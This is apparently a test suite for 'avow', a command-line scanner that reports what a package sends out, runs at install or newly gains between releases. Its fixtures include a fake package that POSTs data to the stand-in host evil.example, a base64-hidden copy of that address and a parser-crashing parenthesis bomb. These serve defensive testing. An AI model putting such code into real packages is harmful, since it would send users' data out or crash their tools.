import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { gzipSync, zstdCompressSync } from 'node:zlib';
import { crx3Of, debOf, tarOf, zipOf } from '../../formats/src/container/testdata/archives.ts';

const AVOW = fileURLToPath(new URL('../bin/avow.js', import.meta.url));
const folder = mkdtempSync(join(tmpdir(), 'avow-cli-'));
after(() => rmSync(folder, { recursive: true }));

const HOST = 'evil.example';
const PRODUCT: Readonly<Record<string, string>> = {
  'package.json': JSON.stringify({
    name: 'agent',
    version: '1.0.0',
    main: 'index.js',
    scripts: { postinstall: 'node install.js' },
  }),
  'index.js': `const https = require('https');\nexports.send = (data) => {\n  https.request({ host: '${HOST}', method: 'POST' }).end(data);\n};\n`,
  'install.js': `require('child_process').execSync('git rev-parse HEAD');\n`,
};
/** A few thousand parentheses kill a native parser and the process it is in. */
const HOSTILE = '('.repeat(60_000);

function makeProduct(name: string, files: Readonly<Record<string, string>>): string {
  const path = join(folder, name);
  mkdirSync(path);
  for (const [file, content] of Object.entries(files)) writeFileSync(join(path, file), content);
  return path;
}

function avow(...args: readonly string[]) {
  return spawnSync(process.execPath, [AVOW, ...args], {
    encoding: 'utf8',
    env: {
      ...process.env,
      AVOW_CACHE: join(folder, 'cache'),
      NO_COLOR: '1',
      FORCE_COLOR: undefined,
    },
    cwd: folder,
  });
}

let product: string;
before(() => {
  product = makeProduct('agent', PRODUCT);
});

test('examine prints what leaves, what runs at installation, and each at its place', () => {
  const { stdout, stderr } = avow('examine', product);
  assert.match(stdout, /What leaves\n {2}speaks HTTP +evil\.example/);
  assert.match(stdout, /What happens at installation/);
  assert.match(stdout, /index\.js\n +3:3 /);
  assert.equal(stderr, '', 'nothing but the result, and that on standard output');
});

test('fresh, cached and without a cache, a result has the same bytes', () => {
  const runs = [['--no-cache'], [], [], ['--workers', '1', '--no-cache']].map(
    (options) => avow('examine', product, '--format', 'json', ...options).stdout,
  );
  assert.equal(new Set(runs).size, 1);
  assert.equal(JSON.parse(runs[0]!).schema, 'avow.examination/1');
});

test('a module that kills its reader is unread, and costs no other module anything', () => {
  const hostile = makeProduct('hostile', { ...PRODUCT, 'bomb.js': HOSTILE });
  const { stdout, status } = avow('examine', hostile, '--format', 'json');
  const { modules, features, answer } = JSON.parse(stdout);
  const states = modules.map(
    ({ path, state }: { path: string; state: string }) => `${path} ${state}`,
  );
  assert.deepEqual(states.sort(), [
    'bomb.js unread',
    'index.js read',
    'install.js read',
    'package.json read',
  ]);
  assert.ok(features.some(({ recipient }: { recipient?: string }) => recipient === HOST));
  assert.notEqual(answer, 'none-found');
  assert.ok(status === 1 || status === 3, `status ${status}`);
});

test('what examine finds, locate shows', () => {
  const { features } = JSON.parse(avow('examine', product, '--format', 'json').stdout);
  const { locator } = features.find(({ feature }: { feature: string }) => feature === 'net.http');
  const { stdout, status } = avow('locate', locator, product);
  assert.equal(status, 0);
  assert.match(stdout, /> 3 \| {3}https\.request[^\n]*\n {4}\| {3}\^/);
});

test('locate reads a pasted frame, and says what it took it for', () => {
  const { stdout, stderr } = avow('locate', 'at send (/srv/agent/index.js:3:9)', product);
  assert.match(stderr, /read as pkg:.*#index\.js @line:3:9/);
  assert.match(stdout, /> 3 \|/);
});

test('find leads from a host to the feature, and from an encoded host to its file', () => {
  const { stdout, status } = avow('find', HOST, product);
  assert.equal(status, 1);
  assert.match(stdout, /Features that go there\n {4}index\.js:3:3/);
  const hidden = makeProduct('hidden', {
    'a.js': `x = "${Buffer.from(`https://${HOST}/`).toString('base64')}"`,
  });
  assert.match(avow('find', HOST, hidden).stdout, /a\.js:1:\d+\n +base64:/);
});

test('diff says what the new release can do that the old could not', () => {
  const next = makeProduct('next', {
    ...PRODUCT,
    'extra.js': `require('fs').writeFileSync('/tmp/x', 'y');\n`,
  });
  const { stdout, status } = avow('diff', product, next);
  assert.equal(status, 1);
  assert.match(stdout, /could not\n {2}writes files\n {4}file\.write +extra\.js:1:1/);
  assert.equal(avow('diff', product, product).stdout.includes('No new feature was found'), true);
});

test('--output writes the file and leaves standard output empty', () => {
  const file = join(folder, 'out.sarif');
  const { stdout } = avow('examine', product, '--format', 'sarif', '--output', file);
  assert.equal(stdout, '');
  assert.equal(JSON.parse(readFileSync(file, 'utf8')).version, '2.1.0');
});

test('of an archive that was cut, what is there is examined: 3, whatever its kind and where it was cut', () => {
  const file = { name: 'package/a.js', data: `fetch('https://${HOST}/');\n`.padEnd(3000, '/') };
  const tar = tarOf(file, { ...file, name: 'package/b.js' });
  const zip = zipOf([file, { ...file, name: 'b.js' }]);
  const cut: Readonly<Record<string, Uint8Array>> = {
    'cut.tar': tar.subarray(0, 4000),
    'cut.tgz': gzipSync(tar, { level: 0 }).subarray(0, 5000),
    'cut.tar.zst': zstdCompressSync(tar).subarray(0, -5),
    'in-member.zip': zip.subarray(0, 4000),
    'in-directory.zip': zip.subarray(0, -50),
    'cut.crx': crx3Of(Buffer.from('key'), zip.subarray(0, -1)),
    'cut.deb': debOf(tarOf(), tar).subarray(0, -2000),
  };
  for (const [name, bytes] of Object.entries(cut)) {
    writeFileSync(join(folder, name), bytes);
    const { stdout, stderr, status } = avow('examine', name);
    assert.equal(status, 3, `${name}: ${stderr}`);
    if (name !== 'cut.tar.zst') assert.match(stdout, /speaks HTTP +evil\.example/, name);
    assert.match(stdout, /the product as a whole/, name);
  }
});

const WRONG_CALLS = [
  { args: [], status: 2, says: /Usage: avow/ },
  { args: ['exmine'], status: 2, says: /Did you mean examine/ },
  { args: ['examine'], status: 2, says: /missing required argument[\s\S]*avow examine --help/ },
  { args: ['log', 'prove'], status: 2, says: /avow log prove --help/ },
  { args: ['code', 'zip.nope'], status: 2, says: /zip\.nope is no code.*zip\.no-end[\s\S]*Next:/ },
  {
    args: ['examine', '.', '--format', 'xml'],
    status: 2,
    says: /Allowed choices are text, json, sarif/,
  },
  { args: ['examine', '.', '--workers', '0'], status: 2, says: /whole number above 0/ },
  {
    args: ['examine', 'not-there'],
    status: 4,
    says: /not-there[\s\S]*Next: avow code product\.missing/,
  },
  { args: ['examine', 'https://example.org/a.tgz'], status: 4, says: /is an address[\s\S]*Next:/ },
  {
    args: ['check', '.', '--policy', 'gone.json'],
    status: 2,
    says: /gone\.json: no such file[\s\S]*Next:/,
  },
  {
    args: ['serve', '--config', 'gone.yaml'],
    status: 2,
    says: /gone\.yaml: no such file[\s\S]*Next:/,
  },
  { args: ['declare', AVOW], status: 2, says: /file by itself[\s\S]*Next:/ },
  { args: ['locate', 'nonsense'], status: 2, says: /no locator[\s\S]*Next:/ },
  {
    args: ['examine', '.', '--output', '/no/such/place'],
    status: 2,
    says: /cannot write[\s\S]*Next:/,
  },
];

for (const { args, status, says } of WRONG_CALLS) {
  test(`avow ${args.join(' ')} ends with ${status} and says why`, () => {
    const result = avow(...args);
    assert.equal(result.status, status);
    assert.match(result.stderr, says);
    assert.equal(result.stdout, '');
  });
}

test('avow code shows what a code means and what to do, and lists all codes', () => {
  const page = avow('code', 'zip.no-end');
  assert.equal(page.status, 0);
  assert.match(page.stdout, /^# zip\.no-end\n[\s\S]*What to do\. /);
  assert.deepEqual(
    page.stdout.split('\n').filter((line) => line.length > 80),
    [],
  );
  assert.match(avow('code').stdout, /^product\.missing\n[\s\S]*^zip\.no-end$/m);
});

test('a draft names the command that checks it', () => {
  const own = avow('declare', product, '--output', join(product, 'avow.yaml'));
  assert.match(own.stderr, new RegExp(`then: avow declare ${product} --check\n$`));
  rmSync(join(product, 'avow.yaml'));
  const other = avow('declare', product, '--output', 'draft.yaml');
  assert.match(other.stderr, /--check --declaration draft\.yaml\n$/);
});

test('where not everything was read, it is never said that nothing is there', () => {
  writeFileSync(join(folder, 'notes.txt'), 'nothing to read');
  const { stdout, status } = avow('examine', join(folder, 'notes.txt'));
  assert.equal(status, 3);
  assert.doesNotMatch(stdout, /nothing found|Every module was read/);
  assert.match(stdout, /nothing in what was read[\s\S]*nothing in it that Avow can\s+read/);
});

test('a reader that goes away (`| head`) is no error', async () => {
  const child = spawn('bash', [
    '-c',
    `"${process.execPath}" "${AVOW}" examine "${product}" --format json | head -c 10; exit \${PIPESTATUS[0]}`,
  ]);
  let stderr = '';
  child.stderr.on('data', (text) => (stderr += text));
  await new Promise((resolve) => child.on('close', resolve));
  assert.equal(stderr, '');
});

test('Ctrl-C ends at once with 130', async () => {
  const slow = makeProduct('slow', { 'a.js': `${'f(x);'.repeat(3_000_000)}` });
  const child = spawn(process.execPath, [AVOW, 'examine', slow, '--no-cache'], { stdio: 'ignore' });
  setTimeout(() => child.kill('SIGINT'), 400);
  const status = await new Promise((resolve) => child.on('close', resolve));
  assert.equal(status, 130);
});
